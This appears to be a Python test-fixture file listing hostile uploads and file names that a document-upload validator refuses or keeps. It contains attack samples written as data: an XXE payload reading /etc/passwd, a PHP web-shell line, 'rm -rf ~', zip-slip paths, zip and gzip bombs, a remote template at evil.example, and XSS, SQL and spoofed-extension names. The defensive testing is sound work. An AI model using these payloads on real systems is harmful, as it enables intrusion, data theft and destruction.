"""The hostile files and names, and what becomes of each: refused, or kept as it was sent."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile.building import (
    PDF,
    bomb,
    docx,
    jpeg,
    linked,
    locked,
    many_members,
    open_document,
    packed,
    png,
    pptx,
    relationships,
    shared_bytes,
    state_size,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACROS = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(488)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
ESCAPED = relationships("attachedTemplate", "http://evil.example/a.dotm")
WELSH = "Adroddiad Tŷ'r Heddlu – Gŵyl Ŵyn.pdf"
DECOMPOSED = "Cafe\u0301 Ty\u0302.pdf"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file as a browser or a script sends it; ``shown`` is its name once kept, None: refused."""

    case: str
    name: str
    make: Callable[[], bytes]
    shown: str | None


def kept(case: str, name: str, content: bytes, shown: str | None = None) -> HostileFile:
    return HostileFile(case, name, lambda: content, shown or name)


def refused(case: str, name: str, content: bytes) -> HostileFile:
    return HostileFile(case, name, lambda: content, None)


SOUND = [
    kept("pdf", "policy.pdf", PDF),
    kept("word", "policy.docx", docx()),
    kept("excel", "counts.xlsx", xlsx()),
    kept("powerpoint", "briefing.pptx", pptx()),
    kept("opendocument text", "policy.odt", open_document("text")),
    kept("opendocument sheet", "counts.ods", open_document("spreadsheet")),
    kept("png", "chart.png", png()),
    kept("jpg", "chart.jpg", jpeg()),
    kept("jpeg, capitals", "CHART.JPEG", jpeg()),
    kept("csv", "counts.csv", b"Force,Count\nTestshire,3\n"),
    kept("csv with a formula stays as sent", "f.csv", b"=HYPERLINK(1),2\n"),
    kept("text", "note.txt", "Dŵr yn y môr".encode()),
    kept("text in UTF-16", "note.txt", "Dŵr".encode("utf-16")),
    kept("text in an old encoding", "note.txt", b"Caf\xe9 society minutes"),
    kept("one byte of text", "note.txt", b"a"),
    kept("chart with its figures inside", "c.docx", docx({"word/embeddings/a.xlsx": xlsx()})),
    kept(
        "link to a web page",
        "l.docx",
        docx({"word/_rels/document.xml.rels": relationships("hyperlink", "https://a.example/")}),
    ),
    kept("part in UTF-16", "u.docx", docx({"customXml/item1.xml": "<a/>".encode("utf-16")})),
]

CONTENT = [
    refused("0 bytes", "empty.pdf", b""),
    refused("1 byte", "one.pdf", b"%"),
    refused("html as pdf", "page.pdf", HTML),
    refused("html as text", "page.txt", HTML),
    refused("html after spaces", "page.txt", b"\xef\xbb\xbf \n\t<HTML><script>"),
    refused("xhtml as text", "page.txt", b'<?xml version="1.0"?><html/>'),
    refused("svg as text", "drawing.txt", SVG),
    refused("svg as png", "drawing.png", SVG),
    refused("svg", "drawing.svg", SVG),
    refused("html", "page.html", HTML),
    refused("eps", "drawing.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    refused("postscript as text", "drawing.txt", b"%!PS-Adobe-3.0\n"),
    refused("shell script as text", "run.txt", b"#!/bin/sh\nrm -rf ~\n"),
    refused("batch file as text", "run.txt", b"@echo off\r\ndel *.*\r\n"),
    refused("php as text", "run.txt", b"<?php system($_GET['c']);"),
    refused("program as text", "run.txt", b"MZ\x90\0\x03\0\0\0"),
    refused("program as pdf", "run.pdf", b"MZ\x90\0\x03\0\0\0" + PDF),
    refused("elf as docx", "run.docx", b"\x7fELF\x02\x01\x01" + bytes(64)),
    refused("rtf as text", "note.txt", b"{\\rtf1\\ansi hello}"),
    refused("text with NULs", "note.txt", b"abc\0def"),
    refused("pdf as docx", "policy.docx", PDF),
    refused("docx as pdf", "policy.pdf", docx()),
    refused("xlsx as docx", "policy.docx", xlsx()),
    refused("jpeg as png", "chart.png", jpeg()),
    refused("plain zip as docx", "policy.docx", packed({"a.txt": "a"})),
    refused("ods as odt", "policy.odt", open_document("spreadsheet")),
    refused("old word", "policy.doc", OLE),
    refused("old word as docx", "policy.docx", OLE),
    refused("zip", "all.zip", packed({"a.txt": "a"})),
    refused("e-mail", "mail.eml", b"From: a@example.test\n\nHello"),
    refused("outlook", "mail.msg", OLE),
    refused("docm", "policy.docm", docx(main=MACRO_TYPE)),
    refused("docm as docx", "policy.docx", docx(main=MACRO_TYPE)),
    refused("macros", "policy.docx", docx({"word/vbaProject.bin": MACROS})),
    refused("macros, other case", "policy.docx", docx({"word/VBAPROJECT.BIN": b"x"})),
    refused("macros in an object", "o.docx", docx({"word/embeddings/oleObject1.bin": MACROS})),
    refused("macros in a macro sheet", "x.docx", docx({"xl/macrosheets/sheet1.xml": "<a/>"})),
    refused("active control", "x.docx", docx({"word/activeX/activeX1.xml": "<a/>"})),
    refused("basic in odt", "p.odt", open_document("text", {"Basic/Standard/Module1.xml": "<a/>"})),
    refused("scripts in odt", "p.odt", open_document("text", {"Scripts/python/a.py": "x"})),
    refused("remote template", "t.docx", docx({"word/_rels/settings.xml.rels": ESCAPED})),
    refused(
        "remote template, spelt out",
        "t.docx",
        docx({"word/_rels/settings.xml.rels": ESCAPED.replace("/attached", "/&#97;ttached")}),
    ),
    refused("xxe", "x.docx", docx({"word/settings.xml": XXE})),
    refused("xxe in UTF-16", "x.docx", docx({"word/settings.xml": XXE.encode("utf-16")})),
    refused("billion laughs", "x.docx", docx({"word/settings.xml": LAUGHS})),
    refused(
        "odd encoding", "x.docx", docx({"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?>'})
    ),
    refused("broken list of parts", "x.docx", docx({"word/_rels/a.rels": "<a><b></a>"})),
    refused("zip slip", "z.docx", docx({"../../../etc/cron.d/x": "x"})),
    refused("zip slip, absolute", "z.docx", docx({"/etc/passwd": "x"})),
    refused("zip slip, windows", "z.docx", docx({"..\\..\\x.dll": "x"})),
    refused("zip slip, drive", "z.docx", docx({"C:/x.dll": "x"})),
    refused("symbolic link inside", "z.docx", linked()),
    refused("locked", "z.docx", locked()),
    refused("two members of one name", "z.docx", docx({"WORD/document.xml": "<b/>"})),
    refused("zip inside", "n.docx", docx({"word/media/a.png": packed({"a": "a"})})),
    refused("gzip inside", "n.docx", docx({"word/media/a.png": gzip.compress(b"a", mtime=0)})),
    refused(
        "document in a document in a document",
        "n.docx",
        docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}),
    ),
    refused("truncated pdf", "cut.pdf", PDF[:60]),
    refused("truncated docx", "cut.docx", docx()[:-40]),
    refused("truncated png", "cut.png", png()[:-6]),
    refused("truncated jpeg", "cut.jpg", jpeg()[:-2]),
    refused("bytes of a docx changed", "bad.docx", docx().replace(b"word/doc", b"word/dXc", 1)),
    refused("pixel flood, png", "flood.png", png(60_000, 60_000)),
    refused("pixel flood, jpeg", "flood.jpg", jpeg(60_000, 60_000)),
    refused("picture of no size", "none.png", png(0, 0)),
    refused("pdf that is a zip too", "both.pdf", PDF + packed({"a.txt": "a"})),
    refused("png that is a zip too", "both.png", png() + packed({"a.txt": "a"})),
    refused("zip before a docx", "both.docx", b"MZ" + docx()),
    refused("lying zip", "lie.docx", state_size(docx({"word/a.dat": "a" * 999}), "word/a", 9)),
    refused("boasting zip", "lie.docx", state_size(docx({"word/a.dat": "a"}), "word/a", 99_999)),
    refused("members that share bytes", "share.docx", shared_bytes()),
    refused("gzip bomb as docx", "gz.docx", gzip.compress(bytes(1 << 20), mtime=0)),
]

NAMES = [
    kept("welsh", WELSH, PDF),
    kept("decomposed", DECOMPOSED, PDF, "Café Tŷ.pdf"),
    kept("chinese", "诚信检查清单.pdf", PDF),
    kept("arabic", "تقرير النزاهة.pdf", PDF),
    kept("emoji", "👮🏽‍♀️ report.pdf", PDF),
    kept("markup", "<img src=x onerror=alert(1)>.pdf", PDF, "<img src=x onerror=alert(1)>.pdf"),
    kept("template", "{{7*7}}{0.__class__}%s.pdf", PDF),
    kept("quotes", "it's “quoted”.pdf", PDF),
    kept("device", "CON.pdf", PDF),
    kept("device with a stream", "AUX.pdf", PDF),
    kept("sql", "'; DROP TABLE evidence;--.pdf", PDF),
    kept("formula", "=1+1.pdf", PDF),
    kept("unix path", "../../etc/passwd.pdf", PDF, "passwd.pdf"),
    kept("windows path", "C:\\Users\\a\\report.pdf", PDF, "report.pdf"),
    kept("text turned round", "report\u202efdp.exe.pdf", PDF, "reportfdp.exe.pdf"),
    kept("zero width", "re\u200bport\ufeff.pdf", PDF, "report.pdf"),
    kept("line separator", "a\u2028b.pdf", PDF, "a b.pdf"),
    kept("format characters", "re\u206aport\U000e0068.pdf", PDF, "report.pdf"),
    kept("private use", "re\ue000port.pdf", PDF, "report.pdf"),
    kept("persian", "می\u200cخواهم.pdf", PDF),
    kept("joined to latin", "re\u200dport.pdf", PDF, "report.pdf"),
    kept("two endings", "report.exe.pdf", PDF),
    kept("only an ending", ".pdf", PDF, "unnamed.pdf"),
    kept("spaces round it", "  report.pdf  ", PDF, "report.pdf"),
    kept("255 characters", "a" * 251 + ".pdf", PDF),
    refused("300 characters", "a" * 296 + ".pdf", PDF),
    refused("2,000 characters", "ŵ" * 2000 + ".pdf", PDF),
    refused("ending after a pdf's", "report.pdf.exe", PDF),
    refused("text turned round to look a pdf", "report\u202efdp.exe", PDF),
    refused("full-width dot", "report．pdf", PDF),
    refused("one dot leader", "report․pdf", PDF),
    refused("no ending", "report", PDF),
    refused("ending of spaces", "report.pdf. ", PDF),
    refused("dots only", "..", PDF),
]

RAW_NAMES = [
    kept("NUL", "report\0.exe.pdf", PDF, "report.exe.pdf"),
    refused("NUL before the true ending", "report.pdf\0.exe", PDF),
    kept("control characters", "re\x1b[31mport\x07.pdf", PDF, "re[31mport.pdf"),
    kept("unpaired surrogate", "report\udcff.pdf", PDF, "report.pdf"),
]
"""Names that no browser sends."""

LARGE = [
    HostileFile("zip bomb", "bomb.docx", lambda: bomb(300 * 1024 * 1024), None),
    HostileFile("60,000 members", "many.docx", lambda: many_members(60_000), None),
    HostileFile("6,000 members", "some.docx", lambda: many_members(6_000), None),
    HostileFile(
        "bomb just below the limit", "big.docx", lambda: bomb(180 * 1024 * 1024), "big.docx"
    ),
    HostileFile(
        "bomb in a document inside",
        "in.docx",
        lambda: docx({"word/embeddings/a.docx": bomb(250 * 1024 * 1024)}),
        None,
    ),
    HostileFile("gzip bomb", "gz.docx", lambda: gzip.compress(bytes(1 << 28), 9, mtime=0), None),
]

ALL = [*SOUND, *CONTENT, *NAMES]
